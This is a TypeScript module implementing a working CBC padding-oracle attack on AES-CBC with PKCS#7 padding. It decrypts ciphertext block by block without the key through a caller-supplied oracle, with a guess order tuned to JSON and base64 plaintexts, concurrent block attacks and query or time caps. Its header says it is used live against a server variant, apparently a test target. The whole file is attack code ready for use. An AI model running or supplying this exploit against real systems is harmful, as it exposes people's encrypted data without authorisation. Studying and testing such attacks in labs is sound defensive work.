/**
 * A CBC padding-oracle attack (Vaudenay 2002) on AES-CBC with PKCS#7: with an oracle that says whether
 * `D(C) ⊕ X` ends in valid padding, each ciphertext block is decrypted byte by byte from its end, without
 * the key. Used live against the classic server's `--retrying` variant (T2).
 */

const BLOCK = 16;

/**
 * Does `D_K(block) ⊕ x` end in valid PKCS#7 padding? (The caller sends x as the block before `block`.)
 * Throws {@link OracleRefused} when the repository stops answering as an oracle (channel gone).
 */
export type PaddingOracle = (x: Buffer, block: Buffer) => Promise<boolean>;

/** The repository stopped playing oracle (e.g. the channel was burnt). */
export class OracleRefused extends Error {
  constructor(message: string) {
    super(message);
    this.name = 'OracleRefused';
  }
}

/** Options of {@link recoverPlaintext}. */
export interface PaddingOracleOptions {
  readonly iv: Buffer;
  readonly ciphertext: Buffer;
  readonly oracle: PaddingOracle;
  /** Attack at most this many blocks (from the first; default all). */
  readonly maxBlocks?: number;
  /** Stop after this many queries (default unlimited). */
  readonly maxQueries?: number;
  /** Stop at this time (ms since the epoch; default none). */
  readonly deadline?: number;
  /** Blocks attacked at the same time (each one query at a time; default 8). */
  readonly concurrency?: number;
  /** Called for every recovered byte (`offset` into the plaintext, padding included). */
  readonly onByte?: (byte: {offset: number; value: number; queries: number; recovered: number}) => void;
}

/** What the attack recovered. */
export interface PaddingOracleResult {
  /** One entry per ciphertext byte: the plaintext byte, or undefined where it was not recovered. */
  readonly plaintext: ReadonlyArray<number | undefined>;
  readonly queries: number;
  readonly recovered: number;
  readonly stoppedBy: 'complete' | 'query-cap' | 'time-cap' | 'block-cap' | 'refused';
}

/**
 * Guess order: what a JSON plaintext of base64 fields most likely holds first (base64 alphabet, JSON
 * punctuation, letters), then PKCS#7 padding values, then every other byte: about 40 queries per byte
 * instead of 128 on average.
 */
export const GUESS_ORDER: readonly number[] = (() => {
  const likely = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="\':,{} _-.@';
  const order = [...Buffer.from(likely, 'latin1')];
  for (let pad = 1; pad <= BLOCK; pad++) order.push(pad);
  for (let byte = 0; byte < 256; byte++) order.push(byte);
  return [...new Set(order)];
})();

class Stop extends Error {
  constructor(readonly reason: 'query-cap' | 'time-cap' | 'refused') {
    super(reason);
  }
}

/**
 * Recovers the plaintext of `ciphertext` block by block (several blocks at once), each byte found by
 * trying plaintext guesses in {@link GUESS_ORDER}; a hit on the last byte is confirmed once (it could be
 * `02 02` rather than `01`). Stops at the query cap, the deadline or when the oracle refuses.
 */
export async function recoverPlaintext(options: PaddingOracleOptions): Promise<PaddingOracleResult> {
  const {iv, ciphertext, oracle} = options;
  if (ciphertext.length === 0 || ciphertext.length % BLOCK !== 0) throw new RangeError('the ciphertext is not whole AES blocks');
  const blocks = ciphertext.length / BLOCK;
  const attacked = Math.min(blocks, options.maxBlocks ?? blocks);
  const plaintext: Array<number | undefined> = new Array(ciphertext.length).fill(undefined);
  let queries = 0;
  let recovered = 0;
  let stop: Stop | undefined;

  const ask = async (x: Buffer, block: Buffer): Promise<boolean> => {
    if (stop) throw stop;
    if (options.maxQueries !== undefined && queries >= options.maxQueries) throw (stop = new Stop('query-cap'));
    if (options.deadline !== undefined && Date.now() >= options.deadline) throw (stop = new Stop('time-cap'));
    queries++;
    try {
      return await oracle(x, block);
    } catch (error) {
      if (error instanceof OracleRefused) throw (stop = new Stop('refused'));
      throw error;
    }
  };

  const attackBlock = async (index: number) => {
    const previous = index === 0 ? iv : ciphertext.subarray((index - 1) * BLOCK, index * BLOCK);
    const block = ciphertext.subarray(index * BLOCK, (index + 1) * BLOCK);
    const intermediate = Buffer.alloc(BLOCK);
    for (let pad = 1; pad <= BLOCK; pad++) {
      const position = BLOCK - pad;
      const x = Buffer.alloc(BLOCK);
      for (let k = position + 1; k < BLOCK; k++) x[k] = intermediate[k] ^ pad;
      let found = false;
      for (const guess of GUESS_ORDER) {
        x[position] = guess ^ previous[position] ^ pad;
        if (!(await ask(x, block))) continue;
        if (pad === 1) {
          const check = Buffer.from(x);
          check[position - 1] ^= 0xff;
          if (!(await ask(check, block))) continue;
        }
        intermediate[position] = x[position] ^ pad;
        plaintext[index * BLOCK + position] = guess;
        recovered++;
        options.onByte?.({offset: index * BLOCK + position, value: guess, queries, recovered});
        found = true;
        break;
      }
      if (!found) throw new Error(`no guess gave valid padding at byte ${position} of block ${index}: the oracle is not a padding oracle`);
    }
  };

  let next = 0;
  let failure: unknown;
  const worker = async () => {
    try {
      while (next < attacked && !stop) await attackBlock(next++);
    } catch (error) {
      if (error instanceof Stop) return;
      failure ??= error;
      stop ??= new Stop('refused');
    }
  };
  // Every worker returns before this does: no probe is still in flight afterwards.
  await Promise.all(Array.from({length: Math.min(options.concurrency ?? 8, attacked)}, worker));
  if (failure !== undefined) throw failure;
  const stoppedBy = stop?.reason ?? (attacked < blocks ? 'block-cap' : 'complete');
  return {plaintext, queries, recovered, stoppedBy};
}
